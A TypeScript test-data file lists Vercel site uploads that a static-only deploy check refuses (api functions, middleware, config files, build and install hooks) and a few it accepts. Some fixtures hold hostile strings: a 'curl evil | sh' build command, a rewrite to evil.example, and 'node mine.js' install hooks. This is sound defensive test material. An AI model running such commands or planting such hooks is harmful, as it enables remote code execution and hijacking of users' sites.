// Sites a quick deploy to this platform must refuse (its own server code and configuration files), and
// ones it must accept: test data for checkStaticOnly's tests (src/testing/static-only-examples.ts
// gathers every platform's). Each site gets an index.html there.
import type { PlatformStaticOnlyExamples } from '@/testing/static-only-examples';

export const staticOnlyExamples: PlatformStaticOnlyExamples = {
  hostile: [
    {
      name: 'vercel-api-js',
      files: { 'api/hello.js': 'export default (req, res) => res.end("hi")' },
      proves: 'an api/*.js file would run as a serverless function',
      names: 'api/hello.js',
    },
    {
      name: 'vercel-api-python',
      files: { 'api/index.py': 'from http.server import BaseHTTPRequestHandler' },
      proves: 'an api/*.py file would run as a Python function',
      names: 'api/index.py',
    },
    {
      name: 'vercel-api-nested',
      files: { 'api/v1/users/[id].ts': 'export function GET() { return new Response("x") }' },
      proves: 'any depth under api/ is refused',
      names: 'api/v1/users/[id].ts',
    },
    {
      name: 'vercel-api-any-file',
      files: { 'api/data.json': '{"a":1}' },
      proves: 'any file under api/ is refused (Vercel keeps api/ for functions)',
      names: 'api/data.json',
    },
    {
      name: 'vercel-middleware-js',
      files: { 'middleware.js': 'export default () => new Response("x")' },
      proves: 'a root middleware.js would run before every request',
      names: 'middleware.js',
    },
    {
      name: 'vercel-middleware-ts',
      files: { 'middleware.ts': 'export default () => new Response("x")' },
      proves: 'a root middleware.ts would run before every request',
      names: 'middleware.ts',
    },
    {
      name: 'vercel-middleware-mjs',
      files: { 'middleware.mjs': 'export default () => {}' },
      proves: 'any middleware.* at the root is refused',
      names: 'middleware.mjs',
    },
    {
      name: 'vercel-json',
      files: { 'vercel.json': '{"rewrites":[{"source":"/(.*)","destination":"https://evil.example/$1"}]}' },
      proves: 'vercel.json (project configuration) is refused',
      names: 'vercel.json',
    },
    {
      name: 'vercel-now-json',
      files: { 'now.json': '{"builds":[{"src":"x.js","use":"@vercel/node"}]}' },
      proves: 'now.json (the legacy vercel.json) is refused',
      names: 'now.json',
    },
    {
      name: 'vercel-ts-config',
      files: { 'vercel.ts': 'export const config = {}' },
      proves: 'vercel.ts (configuration as code) is refused',
      names: 'vercel.ts',
    },
    { name: 'vercel-toml', files: { 'vercel.toml': 'buildCommand = "curl evil | sh"' }, proves: 'vercel.toml is refused', names: 'vercel.toml' },
    {
      name: 'vercel-package-build',
      files: { 'package.json': '{"scripts":{"build":"node mine.js"}}' },
      proves: 'a package.json with a build script is refused',
      names: 'package.json',
    },
    {
      name: 'vercel-package-postinstall',
      files: { 'package.json': '{"scripts":{"postinstall":"node mine.js"}}' },
      proves: 'a package.json with an install hook is refused',
      names: 'package.json',
    },
    {
      name: 'vercel-package-vercel-build',
      files: { 'package.json': '{"scripts":{"vercel-build":"node mine.js"}}' },
      proves: 'a package.json with vercel-build is refused',
      names: 'package.json',
    },
    {
      name: 'vercel-package-unparsable',
      files: { 'package.json': '{"scripts": {"build": ' },
      proves: 'an unparsable package.json is refused',
      names: 'package.json',
    },
    {
      name: 'vercel-package-not-object',
      files: { 'package.json': '["build"]' },
      proves: 'a package.json that is not an object is refused',
      names: 'package.json',
    },
    {
      name: 'vercel-build-output',
      files: { '.vercel/output/config.json': '{"version":3}' },
      proves: 'the Build Output API folder .vercel/output is refused',
      names: '.vercel/output/config.json',
    },
    {
      name: 'vercel-legacy-build-output',
      files: { '.vercel_build_output/functions/node/x/index.js': 'module.exports = () => {}' },
      proves: 'the legacy .vercel_build_output folder is refused',
      names: '.vercel_build_output/functions/node/x/index.js',
    },
  ],
  benign: [
    {
      name: 'vercel-package-json-without-build',
      files: { 'package.json': '{"name":"site","scripts":{"start":"serve .","dev":"vite"},"dependencies":{"react":"19"}}' },
      proves: 'a package.json without build or install scripts is accepted',
    },
    {
      name: 'vercel-look-alike',
      files: { 'vercel.json.txt': 'notes' },
      proves: 'files that only look like Vercel configuration are accepted',
    },
  ],
};
